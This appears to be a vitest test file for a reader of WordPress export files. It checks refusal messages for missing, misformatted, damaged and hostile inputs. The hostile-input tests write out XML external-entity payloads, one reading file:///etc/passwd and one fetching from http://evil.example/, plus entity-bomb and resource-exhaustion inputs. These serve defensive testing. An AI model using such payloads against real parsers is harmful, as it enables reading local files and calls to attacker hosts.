import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readExport } from '../../../src/imports/wordpress/read-export.ts';
import { channel, exportFile, refusal, refusalOf, whatIsRead } from '../../support/read-whole-export.ts';
import { makeItem, makeSite, wxr } from '../../support/wxr-writer.ts';

const small = wxr(makeSite(), [makeItem()]);

describe('a file that is none is refused', () => {
  it('where it is not there, with the name that is near', async () => {
    const path = await exportFile(small, 'magazine.xml');
    const wrong = path.replace('magazine.xml', 'magasine.xml');
    expect(await refusalOf(wrong)).toBe(`There is no file "${wrong}". Did you mean "magazine.xml"?`);
  });

  it('where nothing is near, with where to get one', async () => {
    const wrong = join(await exportFile(small, 'magazine.xml'), '../quite-another-name.wxr');
    expect(await refusalOf(wrong)).toContain('Name the .xml file that WordPress wrote under Tools, Export.');
  });

  it('where it is a folder', async () => {
    const path = await exportFile(small);
    await mkdir(`${path}.d`);
    expect(await refusalOf(`${path}.d`)).toBe(`"${path}.d" is a folder; name the .xml file in it.`);
  });

  it('where it is no ordinary file', async () => {
    expect(await refusalOf('/dev/null')).toBe(
      '"/dev/null" is no ordinary file; save the export as one, since it is read twice.',
    );
  });

  it('where nobody knows its encoding', async () => {
    expect(await refusal(small.replace('UTF-8', 'EBCDIC-37'))).toBe(
      'is written in "ebcdic-37", which cannot be read here; save it as UTF-8.',
    );
  });

  it.each([
    ['empty', '', 'is empty; export it again.'],
    ['white', ' \n\n', 'is empty: it holds nothing but white space; export it again.'],
    [
      'a zip',
      Buffer.from('PK\u0003\u0004\u0014'),
      'is a zip archive, no XML; unpack it, and name the .xml file in it.',
    ],
    ['a gzip', Buffer.from([0x1f, 0x8b, 8]), 'is a gzip archive, no XML; unpack it, and name the .xml file in it.'],
    ['a PDF', '%PDF-1.7', 'is a PDF, no XML.'],
    [
      'a web page',
      '<!DOCTYPE html>\n<title>Log in</title>',
      'is a web page, no export; perhaps the page on which to log in was saved in its place.',
    ],
    [
      'a web page after a comment',
      '<!-- x --><HTML lang="en">',
      'is a web page, no export; perhaps the page on which to log in was saved in its place.',
    ],
    ['JSON', '{"posts": []}', 'is JSON, no XML; export the posts in WordPress under Tools, Export.'],
    [
      'a dump',
      '-- MySQL dump 10.13',
      'is the dump of a database, no XML; export the posts in WordPress under Tools, Export.',
    ],
    [
      'a table',
      'Date,Name,Year\n2020-01-01,"\u0085[31mX",1999',
      'is no XML: it begins with "Date,Name,Year 2020-01-01,"?[31mX",1999".',
    ],
    ['a table in UTF-16', Buffer.from('\uFEFFDate,Name', 'utf16le'), 'is no XML: it begins with "Date,Name".'],
    [
      'after a warning',
      `<br />\n<b>Warning</b>: fopen(x)\n${small}`,
      'has text before its XML begins ("<br /> <b>Warning</b>: fopen(x)"), perhaps a server\'s warning; delete all before "<?xml".',
    ],
    [
      'an RSS feed',
      '<?xml version="1.0"?><rss version="2.0"><channel><title>A</title><item><title>B</title></item></channel></rss>',
      'is an RSS feed, no WordPress export: it has none of WordPress’s own elements (wp:post_id); export the posts in WordPress under Tools, Export.',
    ],
    [
      'an empty RSS feed',
      '<rss version="2.0"><channel/></rss>',
      'is an RSS feed, no WordPress export: it has none of WordPress’s own elements (wp:post_id); export the posts in WordPress under Tools, Export.',
    ],
    [
      'Blogger',
      '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><id>tag:blogger.com,1999:blog-1</id></feed>',
      'is an export of Blogger, in Atom, no WordPress export, whose outermost element is <rss>.',
    ],
    [
      'Atom',
      '<feed xmlns="http://www.w3.org/2005/Atom"/>',
      'is an Atom feed, no WordPress export, whose outermost element is <rss>.',
    ],
    [
      'RSS 1.0',
      '<rdf:RDF xmlns:rdf="x"/>',
      'is an RSS 1.0 feed, no WordPress export, whose outermost element is <rss>.',
    ],
    ['a site map', '<urlset/>', 'is a site map, no WordPress export, whose outermost element is <rss>.'],
    [
      'other XML',
      '<library/>',
      'is XML of another kind (its outermost element is <library>), no WordPress export, whose outermost element is <rss>.',
    ],
    ['no element', '<?xml version="1.0"?>\n<!-- nothing -->', 'is no WordPress export: it holds no element at all.'],
  ])('where it is %s', async (_, text, told) => {
    expect(await refusal(text)).toBe(told);
  });
});

describe('a damaged export is refused', () => {
  const three = wxr(makeSite(), [makeItem({ id: '1' }), makeItem({ id: '2' }), makeItem({ id: '3' })]);

  it('where it was cut short, with the whole items before it', async () => {
    const cut = three.slice(0, three.indexOf('Post 3'));
    const path = await exportFile(cut);
    const ids: string[] = [];
    const reading = (async () => {
      for await (const { id } of readExport(path)) ids.push(id);
    })();
    await expect(reading).rejects.toThrow(
      `"${path}" ends at line ${cut.split('\n').length}, before its end: it was cut short after 2 whole items; export or download it again.`,
    );
    expect(ids).toEqual(['1', '2']);
  });

  it('wherever it was cut short', async () => {
    for (let length = three.indexOf('<rss') + 5; length < three.indexOf('</rss>') + 6; length += 97)
      expect(await refusal(three.slice(0, length))).toMatch(
        /^(?:ends at line \d+, before its end|is no WordPress export)/,
      );
  });

  it('where a tag is not closed, with line and column', async () => {
    expect(await refusal(channel('<title>T</title>\n<item><title>A</item>'))).toBe(
      'is malformed at line 5, column 22 (unexpected close tag); mend it there, or export it again.',
    );
  });

  it('where there are two in one', async () => {
    expect(await refusal(`${small}${small}`)).toMatch(/^is malformed at line \d+, column \d+ \(/);
  });

  it.each([
    ['a title', '<title>A</title>\n<title>Tom & Jerry</title>\n<link>a;b</link>', 5],
    ['a title with CDATA before it', '<title><![CDATA[a & b]]></title>\n<link>x?a&b</link>\n<p>&amp;</p>', 5],
    ['a name that nobody knows', '<title>A</title>\n\n<title>a &amp; &bogus; b</title>', 6],
  ])('where "&" stands for itself in %s, with its line', async (_, inner, line) => {
    expect(await refusal(channel(inner))).toBe(
      `is malformed at line ${line}: "&" stands there for itself; write "&amp;" in its place.`,
    );
  });

  it('where elements stand in a text', async () => {
    expect(await refusal(channel('<item>\n<content:encoded><p>A</p></content:encoded></item>'))).toBe(
      'holds <p> in the text of <content:encoded> at line 5; text must stand in CDATA or be escaped there.',
    );
  });
});

describe('a hostile export is refused', () => {
  const declares =
    'declares a document type with entities of its own, which no WordPress export has and which can be used to harm; it is not read.';

  it.each([
    ['an entity bomb', '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'],
    ['a file from outside', '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['a parameter', '<!DOCTYPE rss SYSTEM "a.dtd" [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>'],
    ['a comment before it', '<!-- <rss> --><!DOCTYPE rss [<!ENTITY a "b">]>'],
    ['an empty list', '<!DOCTYPE rss []>'],
    ['a list without end', `<!DOCTYPE rss [${'<!ENTITY a "b">'.repeat(1000)}`],
    ['quotes that hide it', '<!DOCTYPE rss PUBLIC ">" "x" [<!ENTITY a "b">]>'],
  ])('with %s in its document type', async (_, doctype) => {
    const text = `<?xml version="1.0"?>\n${doctype}\n${small.replace(/^<\?xml.*\n/, '').replace('Post 1', '&a;')}`;
    expect(await refusal(text)).toBe(declares);
  });

  it('but not with a document type that declares nothing, which is not fetched', async () => {
    const text = small.replace('<rss', '<!DOCTYPE rss SYSTEM "http://127.0.0.1:1/rss.dtd">\n<rss');
    expect((await whatIsRead(text)).items).toHaveLength(1);
  });

  it('with elements nested without end', async () => {
    expect(await refusal(channel(`<item>\n${'<a>'.repeat(100_000)}`))).toBe(
      'nests its elements more than 100 deep at line 5, which no WordPress export does.',
    );
  });

  it.each([
    ['a text without end', `<item>\n<content:encoded><![CDATA[${'x'.repeat(51_000_000)}`],
    ['a tag without end', `<item>\n<title ${`a="${'b'.repeat(1000)}" `.repeat(51_000)}`],
    [
      'comments without end',
      `<item>${`<wp:comment><wp:comment_content>${'x'.repeat(1000)}</wp:comment_content></wp:comment>\n`.repeat(50_000)}`,
    ],
  ])('with %s', async (_, inner) => {
    expect(await refusal(channel(inner))).toBe(
      "holds more than 50 million characters in the item that begins at line 4, which is no magazine's; it is not read on.",
    );
  });

  it('with a head without end', async () => {
    const author = `<wp:author><wp:author_login>${'a'.repeat(10_000)}</wp:author_login></wp:author>\n`;
    expect(await refusal(channel(`${author}<item/>`.repeat(2100)))).toBe(
      "holds more than 20 million characters besides its items, which is no magazine's; it is not read on.",
    );
  });
});
